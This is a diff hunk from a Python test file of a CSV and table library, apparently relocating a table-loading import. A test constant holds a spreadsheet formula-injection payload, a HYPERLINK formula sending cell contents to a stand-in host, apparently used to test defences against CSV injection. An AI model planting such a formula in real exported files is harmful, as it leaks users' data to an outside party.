@@ -28,8 +28,8 @@ from mer_classic._io import (
     write_csv_atomic,
 )
 from mer_classic._large_tables import read_csv_chunked
+from mer_classic._table import load_table, read_csv
 from mer_classic.exceptions import DataError
-from mer_classic.table import load_table, read_csv
 from tests._spotify_fake import read_rows, tid
 
 EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
